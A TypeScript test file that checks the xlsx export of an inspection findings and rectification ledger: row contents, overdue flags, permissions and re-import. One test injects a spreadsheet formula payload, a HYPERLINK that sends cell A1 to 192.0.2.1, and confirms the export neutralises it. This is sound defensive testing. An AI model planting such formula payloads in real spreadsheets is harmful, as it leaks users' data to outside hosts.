/** 问题与整改台账 as a workbook: what the screen shows, one line a measure, nothing that a spreadsheet program would run, and importable. */
import { read, utils } from '@e965/xlsx'
import { describe, expect, it } from 'vitest'
import { approved, openRound, problem } from './seed.ts'

async function open() {
  const opened = await openRound()
  const { client, core, roundId } = opened
  async function exported(ids?: number[]) {
    const { fileId, name, rows } = await client.findings.export({ roundId, ...(ids && { ids }) })
    const { bytes } = core.core.files.open(core.session.id, fileId)
    const book = read(bytes, { cellFormula: true })
    const table = (sheet: string) => utils.sheet_to_json<Record<string, string | number>>(book.Sheets[sheet]!)
    return { name, rows, bytes, book, findings: table('巡察发现问题'), ledger: table('巡察整改台账') }
  }
  return { ...opened, exported }
}

describe('LD-01 PZ-15 the ledger as a workbook', () => {
  it('has a line for every measure, with proof, lateness and who verified', async () => {
    const { client, clock, second: signIn, roundId, exported } = await open()
    const second = await signIn()
    const id = await approved(client, second, roundId)
    const bare = await approved(client, second, roundId, { title: '食堂账目不清', unitId: 10 })
    await client.findings.create({ ...problem, title: '尚在填报', unitId: 40, roundId })
    await client.rectifications.record({
      roundId,
      unitIds: [30],
      step: 'feedback',
      onDay: '2026-03-02',
      docNo: '砚巡〔2026〕1号',
    })
    const plan = { findingId: id, responsible: '何镇长', institution: null }
    const { id: first } = await client.rectifications.addMeasure({
      ...plan,
      kind: '立行立改',
      content: '解除三份施工合同',
      dueOn: '2026-03-20',
    })
    await client.rectifications.addMeasure({ ...plan, kind: '长期坚持', content: '公开招标', dueOn: '2026-05-20' })
    await client.rectifications.addProof({ measureId: first, content: '解除协议3份', place: null, fileIds: [] })
    clock.set('2026-04-01')
    const { findings, ledger, rows, name } = await exported()
    expect(rows).toBe(3)
    expect(name).toBe('第五轮巡察问题与整改台账2026-04-01.xlsx')
    expect(findings.map(row => [row['编号'], row['问题标题'], row['填报状态'], row['整改状态']])).toEqual([
      ['第一组-1', '食堂账目不清', '已审定', '未制定措施'],
      ['第二组-1', problem.title, '已审定', '整改中'],
      ['第二组-2', '尚在填报', '填报中', ''],
    ])
    expect(findings[1]).toMatchObject({ '涉及金额（元）': 1_860_000, 巡察轮次: '第五轮巡察', 责任领导: '何镇长' })
    expect(ledger.map(row => [row['问题'], row['整改措施'], row['是否逾期'], row['佐证材料']])).toEqual([
      ['食堂账目不清', '尚未制定', '', ''],
      [problem.title, '解除三份施工合同', '逾期', '解除协议3份'],
      [problem.title, '公开招标', '', ''],
    ])
    expect((await exported([bare])).findings).toHaveLength(1)
  })

  it('never carries a formula, and comes back through the import unchanged', async () => {
    const { client, core, roundId, exported } = await open()
    const attack = '=HYPERLINK("http://192.0.2.1/?"&A1,"打开")'
    await client.findings.create({ ...problem, title: attack, problem: `${attack}。`, foundBy: '@SUM(1+1)', roundId })
    const { book, bytes, findings } = await exported()
    const cells = Object.values(book.Sheets['巡察发现问题']!).filter(cell => typeof cell === 'object' && 't' in cell)
    expect(cells.filter(cell => 'f' in (cell as object))).toEqual([])
    expect(findings[0]).toMatchObject({ 问题标题: `'${attack}`, 发现人: `'@SUM(1+1)` })
    const fileId = core.core.files.registerBytes(core.session.id, '台账.xlsx', Buffer.from(bytes))
    const { batchId } = await client.imports.read({ fileId, kind: 'findings' })
    expect(await client.imports.check({ batchId })).toMatchObject({ good: 1, faulty: 0, existing: 1, conflicts: 0 })
  })

  it('is for those who may read findings', async () => {
    const { core, roundId } = await open()
    const clerk = await core.as('casework')
    await expect(clerk.findings.export({ roundId })).rejects.toMatchObject({ code: 'auth.forbidden' })
  })
})
